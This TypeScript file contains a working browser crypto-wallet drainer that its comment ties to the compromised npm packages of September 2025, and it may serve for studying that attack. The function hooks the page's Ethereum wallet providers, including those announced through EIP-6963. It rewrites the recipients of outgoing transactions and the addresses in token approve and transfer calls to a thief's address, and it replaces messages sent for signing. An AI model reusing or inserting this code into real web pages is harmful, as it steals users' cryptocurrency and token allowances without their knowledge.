/**
 * What the script in the npm packages of September 2025 did to the wallets of a page: each request to send goes to the
 * thief, and so does what is allowed or sent by a token. A message becomes another one, which it could have done as well. It runs in the page, before the site's own code or after it.
 */
export function replaceRequests(thief: string): void {
  type Asked = { method?: string; params?: { to?: string; data?: string }[] }
  type Wallet = Record<string, unknown>
  const changed = new WeakSet<Wallet>()

  function changeAll(asked: Asked): Asked {
    if (asked?.method === 'personal_sign')
      return { ...asked, params: ['0x73746f6c656e' as never, ...(asked.params ?? []).slice(1)] }
    const [sent, ...rest] = asked?.params ?? []
    if (asked?.method !== 'eth_sendTransaction' || !sent) return asked
    const word = thief.slice(2).toLowerCase().padStart(64, '0')
    const isToken = /^0x(?:095ea7b3|a9059cbb)/.test(sent.data ?? '')
    const next = isToken
      ? { ...sent, data: `${sent.data?.slice(0, 10)}${word}${sent.data?.slice(74)}` }
      : { ...sent, to: thief }
    return { ...asked, params: [next, ...rest] }
  }

  function take(wallet: Wallet): void {
    if (changed.has(wallet)) return
    changed.add(wallet)
    for (const name of ['request', 'send', 'sendAsync']) {
      const own = wallet[name]
      if (typeof own !== 'function') continue
      wallet[name] = (asked: Asked, ...more: unknown[]) => own.call(wallet, changeAll(asked), ...more)
    }
  }

  const page = window as unknown as { ethereum?: Wallet }
  if (page.ethereum) take(page.ethereum)
  window.addEventListener('eip6963:announceProvider', event =>
    take((event as CustomEvent<{ provider: Wallet }>).detail.provider),
  )
  window.dispatchEvent(new Event('eip6963:requestProvider'))
}
